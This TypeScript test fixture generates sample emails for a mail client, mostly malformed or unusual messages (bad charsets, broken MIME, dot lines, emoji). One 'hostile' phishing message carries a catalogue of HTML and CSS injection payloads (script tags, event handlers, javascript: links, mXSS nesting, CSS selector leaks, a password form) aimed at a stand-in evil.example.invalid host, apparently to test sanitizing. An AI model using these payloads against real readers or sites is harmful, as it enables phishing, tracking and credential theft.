import { type Calendar, compose, headerDate, imap, type SampleMessage } from './message.ts';

/** Mail that breaks a rule, or stretches one: what real mailboxes hold and naive readers fall over. */
export function oddMail(calendar: Calendar): SampleMessage[] {
  return [...malformed(calendar), ...unusual(calendar), hostile(calendar), ...twice(calendar)];
}

function malformed({ day }: Calendar): SampleMessage[] {
  return [
    // Bytes above 127 and no word about their charset; they are Latin-1.
    lines(day(5, '10:10'), [
      'From: Förening Båtklubben <klubben@example.org>',
      'Subject: Årsmöte på lördag',
      'Message-ID: <odd-latin1@example.org>',
      '',
      'Hej Mara,',
      '',
      'årsmötet är på lördag klockan fjorton. Kaffe och smörgås finns.',
      '',
    ]),
    // The closing boundary never comes: the connection of its sender broke off.
    lines(day(9, '23:59'), [
      'From: Elin Lindqvist <elin@example.org>',
      'Subject: From the train',
      'Message-ID: <odd-broken@example.org>',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary="train"',
      '',
      '--train',
      'Content-Type: text/plain; charset=utf-8',
      '',
      'We are late by twenty minutes. The tunnel eats the network, so I attach',
      'the ticket now.',
      '--train',
      'Content-Type: application/octet-stream; name="ticket.bin"',
      'Content-Transfer-Encoding: base64',
      'Content-Disposition: attachment; filename="ticket.bin"',
      '',
      'VGhlIHR1bm5lbCBhdGUgdGhlIHJlc3Qgb2YgdGhpcyBmaWxl',
      'YW5kIHRoZSBib3Vu',
    ]),
    // Lines that begin with dots, which POP doubles on the wire, and a last one that is nothing but a dot.
    lines(day(11, '08:08'), [
      'From: Harbour list <list@harbour.example.org>',
      'Subject: .profile of the club computer',
      'Message-ID: <odd-dots@example.org>',
      '',
      '.profile says:',
      '. ~/.club',
      '.',
      '..',
      '...and nothing else.',
      '.',
    ]),
    lines(day(13, '03:00'), BUOY, '\n'),
    // Neither Message-ID nor Subject, nor even a Date.
    lines(day(14, '12:34'), ['From: scanner@example.com', '', 'Scan finished, 3 pages.', '']),
  ];
}

/** Its lines end in LF alone, as some scripts write them. */
const BUOY = [
  'From: Weather buoy <buoy@harbour.example.org>',
  'Subject: Buoy 4: battery at 61 %',
  'Message-ID: <odd-bare-lf@example.org>',
  '',
  'wind 7 m/s',
  'water 6.4 C',
  'battery 61 %',
  '',
];

function unusual({ day }: Calendar): SampleMessage[] {
  const wishes = 'and calm water, and fair wind, and a dry bilge, ';
  const quote = Array.from(
    { length: 12 },
    (_, level) => `${'>'.repeat(12 - level)} ${level % 2 ? 'No, I meant the other winch.' : 'Which winch?'}`,
  );
  return [
    imap('INBOX', ['\\Seen'], {
      id: 'odd-long-subject',
      from: 'Tomáš Novák <tomas@example.org>',
      date: day(7, '19:19'),
      subject: `I wish you all a good season ${wishes.repeat(20)}and a good night`,
      text: 'I could not find the end of the sentence.\n\nTomáš',
    }),
    imap('INBOX', ['\\Seen'], {
      id: 'odd-flowed',
      from: 'Ada Okafor <ada.okafor@example.com>',
      date: day(10, '11:11'),
      subject: 'Notes of our walk (format=flowed)',
      textType: 'text/plain; format=flowed; delsp=no',
      text: 'The path along the dunes is open again, and the lark was there \nbefore us, as every year. We should put a bench where the \nold signal mast stood.\n\n> You said something about the foundations \n> of the mast?\n\nThey are still there, under half a metre of sand.\n\n-- \nAda',
    }),
    imap('INBOX', ['\\Seen'], {
      id: 'odd-deep-quote',
      from: 'Jonas Berg <jonas@example.org>',
      date: day(16, '22:22'),
      subject: 'Re: Re: Re: Re: Re: AW: Re: SV: Re: Winch',
      text: `Let us simply talk on Saturday.\n\n${quote.join('\n')}`,
    }),
    imap('INBOX', ['\\Seen', '\\Flagged'], {
      id: 'odd-emoji',
      from: '👩‍🚀 Elin 🚀 <elin@example.org>',
      date: day(1, '20:20'),
      subject: '👨‍👩‍👧‍👦🏳️‍🌈🧑🏽‍🔧 ➡️ ⛵️ = ❤️‍🔥',
      text: '🥳🥳🥳',
    }),
  ];
}

/** Everything that a reader must never let happen; every address in it is one that cannot exist. */
function hostile({ day }: Calendar): SampleMessage {
  const html = `<html><head>
<meta http-equiv="refresh" content="0; url=https://evil.example.invalid/refresh">
<base href="https://evil.example.invalid/">
<link rel="stylesheet" href="https://evil.example.invalid/style.css">
<style>@import url(https://evil.example.invalid/import.css);
body { background: url(https://evil.example.invalid/body.png) }
input[value^="a"] { background: url(https://evil.example.invalid/leak?a) }
.cover { position: fixed; inset: 0; z-index: 2147483647 }</style>
<script>window.parent.hacked = 'script'; fetch('https://evil.example.invalid/script')</script>
</head><body onload="window.parent.hacked = 'onload'">
<p>Dear customer, your account is closed. Please confirm at once.</p>
<img src="https://evil.example.invalid/pixel.gif" width="1" height="1">
<img src="x" onerror="window.parent.hacked = 'onerror'">
<img srcset="https://evil.example.invalid/srcset.png 1x">
<svg onload="window.parent.hacked = 'svg'"><script>window.parent.hacked = 'svg script'</script>
<image href="https://evil.example.invalid/svg.png"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror="window.parent.hacked = 'mxss'"></style></mglyph></table></mtext></math>
<a href="javascript:window.parent.hacked = 'link'">Confirm</a>
<a href="https://evil.example.invalid/" target="_top">https://bank.example.com/</a>
<form action="https://evil.example.invalid/form" method="post"><input name="password" type="password" value="abc"><button>Sign in</button></form>
<iframe src="https://evil.example.invalid/frame" srcdoc="<script>top.hacked = 'frame'</script>"></iframe>
<object data="https://evil.example.invalid/object"></object><embed src="https://evil.example.invalid/embed">
<video src="https://evil.example.invalid/video" poster="https://evil.example.invalid/poster" autoplay></video>
<div class="cover" style="background-image:url('https://evil.example.invalid/inline.png')"></div>
<p style="font-family: 'x'; background: url(https://evil.example.invalid/p.png)">Thank you.</p>
</body></html>
`;
  return imap('Junk', ['$Junk'], {
    id: 'hostile-html',
    from: '"Harbour Bank" <security@evil.example.invalid>',
    date: day(1, '03:33'),
    subject: 'Your account is closed <script>alert(1)</script>',
    html,
  });
}

/** The same bytes in two mailboxes: one Email that is in both. */
function twice({ day }: Calendar): SampleMessage[] {
  const date = day(22, '16:16');
  const raw = compose({
    id: 'same-in-two',
    from: 'Priya Raman <priya@example.org>',
    date,
    subject: 'Key of the boat house: under the third stone',
    text: 'Third from the left, seen from the water. Do not tell the gulls.\n\nPriya',
  });
  return ['INBOX', 'Projects/Boat house'].map(mailbox => ({
    account: 'imap',
    mailbox,
    flags: ['\\Seen'],
    date,
    raw,
  }));
}

/** A message of exactly these lines, in Latin-1, below a Received header that says when it came. */
function lines(date: Date, rest: readonly string[], end = '\r\n'): SampleMessage {
  const received = `Received: from relay.example.org by mx.example.com; ${headerDate(date)}`;
  const raw = Buffer.from([received, 'To: mara@example.com', ...rest].join(end), 'latin1');
  return { account: 'imap', mailbox: 'INBOX', flags: ['\\Seen'], date, raw };
}
